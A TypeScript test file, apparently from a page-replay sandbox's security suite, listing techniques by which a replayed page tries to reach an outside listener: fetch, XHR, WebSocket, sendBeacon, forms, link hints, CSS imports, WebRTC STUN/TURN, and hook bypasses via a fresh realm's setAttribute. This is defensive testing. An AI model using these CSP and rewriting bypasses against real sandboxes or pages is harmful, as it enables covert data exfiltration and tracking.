import type { Technique } from './page-kit.ts'

/**
 * Reaching the outside listener straight from the replayed page: every network API, the markup the
 * worker rewrites, what scripts set at run time (not rewritten), and channels the CSP does not cover.
 */
export const networkAttacks: Technique[] = [
  {
    id: 'fetch',
    what: 'fetch() of the outside URL: string, Request object, no-cors, keepalive POST',
    script: () => `
await step('fetch(url)', () => fetch(tag('a')).then(r => r.status))
await step('fetch(new Request)', () => fetch(new Request(tag('b'))).then(r => r.status))
await step('fetch no-cors', () => fetch(tag('c'), { mode: 'no-cors' }).then(r => r.type))
await step('fetch keepalive POST', () => fetch(tag('d'), { method: 'POST', body: 'x', keepalive: true }).then(r => r.status))`
  },
  {
    id: 'xhr',
    what: 'XMLHttpRequest to the outside, async and sync',
    script: () => `
await step('xhr async', () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', tag('a')); x.onload = () => ok(x.status); x.onerror = () => no(new Error('error event')); x.send() }))
await step('xhr sync', () => { const x = new XMLHttpRequest(); x.open('GET', tag('b'), false); x.send(); return x.status })`
  },
  {
    id: 'websocket',
    what: 'WebSocket to the outside: the page\'s constructor, and a fresh realm\'s',
    script: () => `
await step('new WebSocket', () => socket(WebSocket, WS + '/t/' + ID + '/a'))
await step('WebSocket of a fresh realm', () => socket(realm().WebSocket, WS + '/t/' + ID + '/b'))`
  },
  {
    id: 'eventsource',
    what: 'EventSource to the outside',
    script: () => `
await step('new EventSource', () => new Promise((ok, no) => { const s = new EventSource(tag('a')); s.onopen = () => ok('open'); s.onerror = () => { s.close(); no(new Error('error event')) } }))`
  },
  {
    id: 'beacon',
    what: 'navigator.sendBeacon to the outside',
    script: () => `
await step('sendBeacon', () => navigator.sendBeacon(tag('a'), 'x'))
await step('sendBeacon Blob', () => navigator.sendBeacon(tag('b'), new Blob(['x'], { type: 'text/plain' })))`
  },
  {
    id: 'markup',
    what: 'absolute outside URLs in served markup: img, script, stylesheet, style url(), iframe, video poster, srcset',
    markup: env => `<img id="i" src="${env.out}/t/markup/img.png"><img srcset="${env.out}/t/markup/srcset.png 2x">
<script src="${env.out}/t/markup/s.js"></script><link rel="stylesheet" href="${env.out}/t/markup/l.css">
<div style="width:9px;height:9px;background:url(${env.out}/t/markup/bg.png)"></div><video poster="${env.out}/t/markup/poster.png"></video>
<iframe src="${env.out}/t/markup/frame"></iframe>`,
    script: () => `
await step('window load', () => document.readyState === 'complete' ? 'complete' : new Promise(ok => addEventListener('load', () => ok('load'))))
await step('img src as served', () => document.getElementById('i').getAttribute('src'))`
  },
  {
    id: 'dynamic-elements',
    what: 'elements made at run time, src set through the hooked setters and through an unhooked setAttribute from a fresh realm',
    script: () => `
const set = realm().Element.prototype.setAttribute
for (const [name, attr] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['audio', 'src']]) {
  await step(name + '.' + attr + ' =', () => { const el = document.createElement(name); el[attr] = tag(name + '-prop'); document.body.append(el); return name === 'audio' ? el.src : loaded(el) }, 1500)
  await step(name + ' pristine setAttribute', () => { const el = document.createElement(name); set.call(el, attr, tag(name + '-attr')); document.body.append(el); return name === 'audio' ? el.getAttribute('src') : loaded(el) }, 1500)
}
await step('link stylesheet pristine', () => { const l = document.createElement('link'); set.call(l, 'rel', 'stylesheet'); set.call(l, 'href', tag('l.css')); document.head.append(l); return loaded(l) }, 1500)`
  },
  {
    id: 'css-runtime',
    what: 'CSS set by scripts (not rewritten): style.background url(), <style> text with @import and @font-face, insertRule, constructed sheets',
    script: () => `
await step('style.backgroundImage', () => { const d = document.createElement('div'); d.style.cssText = 'width:5px;height:5px'; d.style.backgroundImage = 'url(' + tag('bg.png') + ')'; document.body.append(d); return getComputedStyle(d).backgroundImage })
await step('<style> textContent @import + @font-face', () => { const s = document.createElement('style'); s.textContent = '@import url(' + tag('i.css') + '); @font-face { font-family: H; src: url(' + tag('f.woff') + ') } p { font-family: H }'; document.head.append(s); return document.fonts.load('12px H').then(f => f.length) })
await step('insertRule', () => { const s = document.createElement('style'); document.head.append(s); s.sheet.insertRule('body { background: url(' + tag('rule.png') + ') }'); return getComputedStyle(document.body).backgroundImage })
await step('constructed sheet replace @import', () => new CSSStyleSheet().replace('@import url(' + tag('c.css') + '); body { border-image: url(' + tag('c.png') + ') 1 }').then(sh => { document.adoptedStyleSheets = [sh]; return getComputedStyle(document.body).borderImageSource }))`
  },
  {
    id: 'css-import',
    what: 'CSS @import and url() to the outside in a served <style> and a data: stylesheet',
    markup: env => `<style>@import url("${env.out}/t/css-import/a.css"); @import "${env.out}/t/css-import/b.css"; h1 { background: url(${env.out}/t/css-import/bg.png) }</style>
<link rel="stylesheet" href="data:text/css,@import url(${env.out}/t/css-import/data.css);">`,
    script: () => `
await step('window load', () => document.readyState === 'complete' ? 'complete' : new Promise(ok => addEventListener('load', () => ok('load'))))
await step('computed h1 background', () => getComputedStyle(document.querySelector('h1')).backgroundImage)`
  },
  {
    id: 'form',
    what: 'form submissions (GET, POST) to the outside: served markup, and action set by an unhooked setAttribute',
    markup: env => `<iframe name="sink"></iframe><form id="f" method="post" action="${env.out}/t/form/served" target="sink"><input name="q" value="1"></form>`,
    script: () => `
const sink = document.querySelector('iframe[name=sink]')
await step('served form submit', () => { const p = loaded(sink); HTMLFormElement.prototype.submit.call(document.getElementById('f')); return p }, 2000)
for (const method of ['get', 'post']) {
  await step('runtime form ' + method, () => { const f = document.createElement('form'); realm().Element.prototype.setAttribute.call(f, 'action', tag(method)); f.method = method; f.target = 'sink'; document.body.append(f); const p = loaded(sink); realm().HTMLFormElement.prototype.submit.call(f); return p }, 2000)
}`
  },
  {
    id: 'a-ping',
    what: '<a ping> to the outside: served, and set at run time through an unhooked setAttribute, then clicked',
    markup: env => `<a id="p" ping="${env.out}/t/a-ping/served" href="#pinged">ping</a>`,
    script: () => `
await step('served ping attribute', () => document.getElementById('p').getAttribute('ping'))
await step('click served', () => { document.getElementById('p').click(); return 'clicked' })
await step('click runtime ping', () => { const a = document.createElement('a'); realm().Element.prototype.setAttribute.call(a, 'ping', tag('runtime')); a.href = '#p2'; document.body.append(a); a.click(); return 'clicked' })`
  },
  {
    id: 'link-hints',
    what: '<link rel=dns-prefetch|preconnect|prefetch|preload|modulepreload> to the outside, served and made at run time',
    markup: env => ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload'].map(r => `<link rel="${r}" as="script" href="${env.out}/t/link-hints/served-${r}">`).join(''),
    script: () => `
for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload']) {
  await step('runtime ' + rel, () => { const l = document.createElement('link'); const set = realm().Element.prototype.setAttribute; set.call(l, 'rel', rel); set.call(l, 'as', 'script'); set.call(l, 'href', tag(rel)); document.head.append(l); return rel === 'dns-prefetch' || rel === 'preconnect' ? 'added' : loaded(l) }, 1500)
}`
  },
  {
    id: 'dynamic-import',
    what: 'import() of an absolute outside URL, from the page and from a fresh realm',
    script: () => `
await step('import()', () => import(tag('m.js')).then(() => 'imported'))
await step('fresh realm eval import()', () => realm().eval('import(' + JSON.stringify(tag('r.js')) + ')').then(() => 'imported'))`
  },
  {
    id: 'rtc-stun',
    what: 'RTCPeerConnection with a STUN and a TURN server on the outside UDP port (WebRTC is outside CSP)',
    script: () => `
async function gather (PC, label) {
  const pc = new PC({ iceServers: [{ urls: 'stun:' + STUN }, { urls: 'turn:' + STUN + '?transport=udp', username: 'u', credential: 'p' }] })
  const types = []
  pc.onicecandidate = (e) => { if (e.candidate) types.push(e.candidate.type) }
  pc.createDataChannel('x')
  await pc.setLocalDescription(await pc.createOffer())
  await within(new Promise(ok => { pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') ok() } }), 2500).catch(() => {})
  pc.close()
  return label + ': ' + (types.join(',') || 'no candidates')
}
await step('RTCPeerConnection', () => gather(RTCPeerConnection, 'page'), 4000)
await step('RTCPeerConnection of a fresh realm', () => gather(realm().RTCPeerConnection, 'realm'), 4000)`
  },
  {
    id: 'object-embed',
    what: '<object data> and <embed src> to the outside, served and set at run time',
    markup: env => `<object data="${env.out}/t/object-embed/o"></object><embed src="${env.out}/t/object-embed/e">`,
    script: () => `
await step('runtime object', () => { const o = document.createElement('object'); realm().Element.prototype.setAttribute.call(o, 'data', tag('ro')); document.body.append(o); return loaded(o) }, 1500)
await step('runtime embed', () => { const o = document.createElement('embed'); realm().Element.prototype.setAttribute.call(o, 'src', tag('re')); document.body.append(o); return 'added' })`
  },
  {
    id: 'base-href',
    what: '<base href> to the outside added at run time, then a relative image',
    script: () => `
await step('base + relative img', () => { const b = document.createElement('base'); realm().Element.prototype.setAttribute.call(b, 'href', tag('')); document.head.prepend(b); const i = document.createElement('img'); realm().Element.prototype.setAttribute.call(i, 'src', 'rel.png'); document.body.append(i); return loaded(i) }, 1500)`
  }
]
